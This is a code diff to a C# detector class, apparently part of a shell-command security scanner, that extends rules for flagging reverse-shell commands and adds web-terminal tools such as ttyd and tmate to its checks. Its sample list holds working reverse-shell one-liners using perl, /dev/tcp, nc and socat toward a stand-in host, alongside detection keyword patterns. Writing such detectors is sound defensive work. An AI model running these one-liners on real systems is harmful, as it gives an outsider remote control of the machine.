@@ -22,6 +22,7 @@ internal static class ExecReverseShell
             "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,1);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
             "sh -i 5<> /dev/tcp/1.2.3.4/4444 0<&5 1>&5 2>&5",
             "nc 1.2.3.4 4444 -c bash",
+            "ttyd bash",
             "socat exec:'bash -li',pty tcp:1.2.3.4:4444",
         ],
         Passes =
@@ -50,6 +51,8 @@ internal static class ExecReverseShell
                     if (argument.Shown.Contains("EXEC:", StringComparison.OrdinalIgnoreCase) || argument.Shown.Contains("SYSTEM:", StringComparison.OrdinalIgnoreCase) || argument.Shown.StartsWith("SHELL", StringComparison.OrdinalIgnoreCase)) return BashFinding.Plain;
                 }
                 return FedByShell(at);
+            case "ttyd" or "gotty" or "tmate" or "upterm" or "sshx" or "webssh":
+                return at.AsksForHelp || at.HasArgument("-v") ? null : BashFinding.Plain;
             case "telnet" or "openssl":
                 return at.Name == "telnet" || at.Argument(0) is "s_client" ? FedByShell(at) : null;
             case "xterm" or "rxvt":
@@ -68,14 +71,18 @@ internal static class ExecReverseShell
             if (at.Invocation.Output == OutputKind.Network && ShellTools.IsShell(at.Name)) return BashFinding.Plain;
             foreach (var source in at.Invocation.Input.From)
             {
-                if (ShellTools.IsShell(at.Name) && source.Name is "nc" or "ncat" or "netcat" or "telnet" or "socat") return BashFinding.Plain;
+                if (ShellTools.IsShell(at.Name) && source.Name is "nc" or "ncat" or "netcat" or "telnet" or "socat" && (SourceTools.Adds(at.Of(source)) & OriginKinds.Network) != 0) return BashFinding.Plain;
             }
         }
         if (at.Invocation.Program is { HasUnknown: true } program)
         {
             foreach (var piece in program.Pieces)
             {
-                if (piece.From is not null && piece.From.Files.Any(IsSocket)) return BashFinding.Plain;
+                if (piece.From is null) continue;
+                foreach (var file in piece.From.Files)
+                {
+                    if (IsSocket(file)) return BashFinding.Plain;
+                }
             }
         }
         foreach (var code in at.Invocation.Code)
@@ -136,7 +143,7 @@ internal static class ExecReverseShell
         || code.Contains("createConnection", StringComparison.Ordinal) || code.Contains("TCPSocket", StringComparison.Ordinal) || code.Contains("/inet/tcp", StringComparison.Ordinal) || code.Contains("TcpClient", StringComparison.OrdinalIgnoreCase);
 
     private static bool Spawns(string code) =>
-        code.Contains("/bin/sh", StringComparison.Ordinal) || code.Contains("/bin/bash", StringComparison.Ordinal) || code.Contains("dup2", StringComparison.Ordinal) || code.Contains("pty.spawn", StringComparison.Ordinal)
+        code.Contains("/bin/sh", StringComparison.Ordinal) || code.Contains("/bin/bash", StringComparison.Ordinal) || code.Contains("dup2", StringComparison.Ordinal) || code.Contains("popen(", StringComparison.OrdinalIgnoreCase) || code.Contains("pty.spawn", StringComparison.Ordinal)
         || code.Contains("cmd.exe", StringComparison.OrdinalIgnoreCase) || code.Contains("powershell", StringComparison.OrdinalIgnoreCase) || code.Contains("\"sh\"", StringComparison.Ordinal) || code.Contains("'sh'", StringComparison.Ordinal)
         || code.Contains("iex", StringComparison.OrdinalIgnoreCase) || code.Contains("exec sprintf", StringComparison.Ordinal) || code.Contains("\"bash\"", StringComparison.Ordinal);
 }
